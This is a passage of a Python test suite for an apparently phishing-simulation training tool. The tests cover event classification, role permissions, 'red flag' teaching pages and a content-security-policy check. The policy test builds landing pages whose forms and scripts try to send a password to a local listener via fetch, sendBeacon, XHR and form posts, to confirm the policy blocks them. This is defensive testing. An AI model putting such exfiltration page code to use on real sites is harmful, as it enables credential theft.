    assert got["result"] == "opened" and got["opened_at"] and got["clicked_at"] is None, got
    assert the_event(api, cid, r1, "clicked")["automated"] is True

    body = expect(classify(api, cid, click["id"], False), 200)
    assert body["automated"] is False and body["clicked"] == 2, body
    s = summary(api, cid)
    assert funnel(s) == (2, 2, 0, 0) and s["automated_events"] == s0["automated_events"], s
    got = recipient(api, cid, r1)
    assert got["result"] == "clicked" and got["clicked_at"], got

    # the open of a recipient whose only human open is reclassified: opened drops
    opened = the_event(api, cid, r1, "opened")
    # (the human click still implies opened)
    body = expect(classify(api, cid, opened["id"], True), 200)
    assert body["opened"] == 2 and body["clicked"] == 2, body
    expect(classify(api, cid, opened["id"], False), 200)

    viewer = role_keys("viewer")
    expect_error(classify(viewer, cid, click["id"], True), 403, "forbidden")
    assert the_event(api, cid, r1, "clicked")["automated"] is False
    expect_error(classify(api, cid, 987654321, True), 404, "not_found")
    other = outbox_campaign(api, server, 1)
    expect_error(classify(api, other["cid"], click["id"], True), 404, "not_found")
    expect_error(classify(api, 987654, click["id"], True), 404, "not_found")
    r = classify(api, cid, click["id"], "yes")
    assert r.status_code == 422, r.text
    assert funnel(summary(api, cid)) == (2, 2, 0, 0)
    operator = role_keys("operator")
    expect(classify(operator, cid, click["id"], True), 200)
    expect(classify(operator, cid, click["id"], False), 200)


# --------------------------------------------------------------------------- 6. red flags


def test_red_flags_round_trip_and_teaching_page(api, server):
    flags = [RED_FLAG,
             {"part": "from", "text": "", "explanation": "The sender's domain is not ours"},
             {"part": "link", "text": "verify", "explanation": "Links should be hovered first"}]
    tmpl = make_template(api, subject="urgent: verify your mailbox, {{.FirstName}}",
                         red_flags=flags)
    assert tmpl["red_flags"] == flags, tmpl
    assert get_template(api, tmpl["id"])["red_flags"] == flags
    listed = [t for t in expect(api.get("/api/v1/templates", params={"limit": 500}),
                                200)["items"] if t["id"] == tmpl["id"]]
    assert listed and listed[0]["red_flags"] == flags, listed

    # no landing page: a click answers with the teaching page
    x = outbox_campaign(api, server, 1, tmpl=tmpl)
    email, rid = next(iter(x["rids"].items()))
    person = PhishClient(server.phish_url, source_ip=fresh_ip())
    r = person.hit("click", rid)
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/html"), r.headers
    assert "This was a phishing simulation" in r.text, r.text[:500]
    assert "Pressure to act fast" in r.text and "<mark>urgent</mark>" in r.text, r.text
    assert "Links should be hovered first" in r.text, r.text
    assert the_event(api, x["cid"], x["rcpts"][email]["id"], "clicked")["automated"] is False

    # PUT replaces them
    upd = dict(tmpl)
    for k in ("id", "created_at", "updated_at"):
        upd.pop(k)
    upd["red_flags"] = [{"part": "body", "text": "gift card", "explanation": "Unusual request"}]
    got = expect(api.put(f"/api/v1/templates/{tmpl['id']}", json=upd), 200)
    assert got["red_flags"] == upd["red_flags"], got


@pytest.mark.parametrize("flag", [
    {"part": "footer", "text": "urgent", "explanation": "x"},
    {"part": "subject", "text": "urgent"},
    {"part": "subject", "text": "urgent", "explanation": ""},
    {"text": "urgent", "explanation": "x"},
    {"part": "subject", "text": "urgent", "explanation": "x", "colour": "red"},
])
def test_red_flags_validation(api, flag):
    r = api.post("/api/v1/templates", json={"name": uniq("tmpl"), "subject": "urgent",
                                            "html": "<p>x</p>", "red_flags": [flag]})
    err = expect_error(r, 422, ("validation", "unknown_field", "invalid_type"))
    assert err.get("field", "").startswith("red_flags"), err


def test_red_flags_at_most_20(api):
    flags = [{"part": "body", "text": f"t{i}", "explanation": f"e{i}"} for i in range(21)]
    r = api.post("/api/v1/templates", json={"name": uniq("tmpl"), "subject": "s",
                                            "html": "<p>x</p>", "red_flags": flags})
    expect_error(r, 422, "validation")
    t = make_template(api, red_flags=flags[:20])
    assert len(t["red_flags"]) == 20


# --------------------------------------------------------------------------- CSP in a browser


class _Exfil:
    """A listener on another origin that records every path requested from it."""

    def __init__(self):
        import http.server
        import threading
        paths = self.paths = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self):
                paths.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = _record

            def log_message(self, *args):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self.httpd.server_port}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()


def test_landing_page_policy_in_a_browser(api, server):
    from browser_support import desktop_ua, run_scenario
    exfil = _Exfil()
    try:
        blocked = make_page(api, html=(
            f'<html><body><form action="{exfil.origin}/steal" method="get" target="_blank">'
            '<input name="username"><input type="password" name="pw">'
            f'<button id="go" formaction="{exfil.origin}/steal2" formtarget="w">Sign in</button>'
            f'</form><script>window.__ran = true; fetch("{exfil.origin}/fetch-blocked");</script>'
            '<img src="missing.png" onerror="window.__handler = true"></body></html>'))
        allowed = make_page(api, allow_scripts=True, html=(
            '<html><body><form id="f"><input type="password" name="pw" value="typed"></form>'
            '<script>window.__violated = [];'
            'document.addEventListener("securitypolicyviolation",'
            ' (e) => window.__violated.push(e.effectiveDirective));'
            f'fetch("{exfil.origin}/fetch").catch(() => {{}});'
            f'navigator.sendBeacon("{exfil.origin}/beacon", "pw");'
            f'try {{ const x = new XMLHttpRequest(); x.open("POST", "{exfil.origin}/xhr");'
            ' x.send("pw"); } catch (e) {}'
            f'new Image().src = "{exfil.origin}/image";'
            'window.__attempted = true;</script></body></html>'))
        x = outbox_campaign(api, server, 1, page=blocked)
        y = outbox_campaign(api, server, 1, page=allowed)
        _, rid_blocked = next(iter(x["rids"].items()))
        _, rid_allowed = next(iter(y["rids"].items()))
        result = run_scenario("landing_csp", {
            "blocked_url": f"{server.phish_url}/?rid={rid_blocked}",
            "allowed_url": f"{server.phish_url}/?rid={rid_allowed}",
            "exfil_origin": exfil.origin, "desktop_ua": desktop_ua()})
        # The page's own script and event handler did not run; the button posted back.
        assert result["blocked"]["ran"] == {"script": False, "handler": False}, result
        assert result["blocked"]["after"] == f"{server.phish_url}/?rid={rid_blocked}", result
        # Phishdrill's own beacon ran under the nonce: the person who used the page is
        # recorded as such (a human "viewed" event).
        assert result["blocked"]["beaconMethod"] == "POST", result
        email, _ = next(iter(x["rids"].items()))
        viewed = wait_until(
            lambda: [e for e in recipient_events(api, x["cid"], x["rcpts"][email]["id"])
                     if e["kind"] == "viewed"], 10, "the page beacon's event")
        assert viewed[0]["automated"] is False, viewed
        # Allowed scripts ran, but the form could not leave, and nothing reached the other
        # site but the image URL (the remaining risk docs/tracking.md states).
        assert result["allowed"]["after"] == result["allowed"]["before"], result
        assert "connect-src" in result["allowed"]["violated"], result
        wait_until(lambda: "/image" in exfil.paths, 10, "the image request (positive control)")
        assert exfil.paths == ["/image"], exfil.paths
    finally:
        exfil.close()
